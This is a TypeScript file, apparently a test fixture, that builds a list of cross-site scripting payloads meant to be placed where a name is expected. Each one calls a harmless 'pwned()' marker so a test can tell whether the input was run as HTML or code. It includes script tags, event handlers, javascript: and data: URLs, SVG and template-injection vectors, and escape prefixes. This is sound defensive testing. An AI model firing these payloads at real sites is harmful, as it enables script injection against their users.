const call = 'pwned()'

/**
 * What attackers put where a name is expected. Each payload calls `pwned()` when something takes it for HTML or code.
 */
export const payloads: string[] = combined()

function combined(): string[] {
  const active = [
    `<script>${call}</script>`,
    `<script src="data:text/javascript,${call}"></script>`,
    `<img src=x onerror=${call}>`,
    `<img src="data:image/svg+xml,%3Csvg onload='${call}'/%3E" onerror="${call}">`,
    `<IMG SRC=x ONERROR=${call}>`,
    `<img/src=x/onerror=${call}//`,
    `<img src=x onerror=&#112;wned()>`,
    `<img src=x one\0rror=${call}>`,
    `<image href=x onerror=${call}>`,
    `<svg onload=${call}>`,
    `<svg><script>${call}</script></svg>`,
    `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
    `<svg><a xlink:href="javascript:${call}"><text y=9>x</text></a></svg>`,
    `<svg><use href="data:image/svg+xml,<svg id='x' onload='${call}'/>#x"></svg>`,
    `<math><mtext><img src=x onerror=${call}></mtext></math>`,
    `<math><a xlink:href="javascript:${call}">x</a></math>`,
    `<body onload=${call}>`,
    `<iframe src="javascript:parent.${call}"></iframe>`,
    `<iframe srcdoc="<script>parent.${call}</script>"></iframe>`,
    `<object data="javascript:${call}"></object>`,
    `<embed src="javascript:${call}">`,
    `<video src=x onerror=${call}></video>`,
    `<audio src=x onerror=${call}></audio>`,
    `<video><source onerror=${call} src=x></video>`,
    `<input autofocus onfocus=${call}>`,
    `<select autofocus onfocus=${call}></select>`,
    `<textarea autofocus onfocus=${call}></textarea>`,
    `<button autofocus onfocus=${call}>x</button>`,
    `<details open ontoggle=${call}>x</details>`,
    `<marquee onstart=${call}>x</marquee>`,
    `<style>@import 'data:text/css,*{}';</style><img src=x onerror=${call}>`,
    `<link rel=stylesheet href=x onerror=${call}>`,
    `<meta http-equiv=refresh content="0;url=javascript:${call}">`,
    `<base href="javascript:${call}//">`,
    `<form action="javascript:${call}"><input type=submit autofocus></form>`,
    `<a href="javascript:${call}">x</a>`,
    `<a href="data:text/html,<script>opener.${call}</script>">x</a>`,
    `<div style="background:url(javascript:${call})">x</div>`,
    `<div style="animation-name:x" onanimationstart=${call}>x</div>`,
    `<p onpointerenter=${call}>x</p>`,
    `<template><img src=x onerror=${call}></template>`,
    `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
    `<!--><img src=x onerror=${call}>-->`,
    `<![CDATA[<img src=x onerror=${call}>]]>`,
    `<%<img src=x onerror=${call}>`,
    `<x onclick=${call} tabindex=1 autofocus onfocus=${call}>`,
  ]
  const bare = [
    `javascript:${call}`,
    `JaVaScRiPt:${call}`,
    `java\tscript:${call}`,
    `\u0001javascript:${call}`,
    `javascript&colon;${call}`,
    `vbscript:${call}`,
    `data:text/html,<script>${call}</script>`,
    `data:text/html;base64,${btoa(`<script>${call}</script>`)}`,
    `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${call}"/>`,
    `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg"><script>${call}</script></svg>`)}`,
    `{{constructor.constructor('${call}')()}}`,
    `\${${call}}`,
    `<%= ${call} %>`,
    `\u2028${call}//`,
    `';${call}//`,
    `";${call}//`,
    `\\";${call}//`,
    `');${call}//`,
    `</script><script>${call}</script>`,
  ]
  /** Out of what the payload may stand in: an attribute, a text field, a title, a comment, a style. */
  const exits = ['', '">', "'>", '</textarea></title></style></script>', '--><p>']
  return [...active.flatMap((payload) => exits.map((exit) => exit + payload)), ...bare]
}
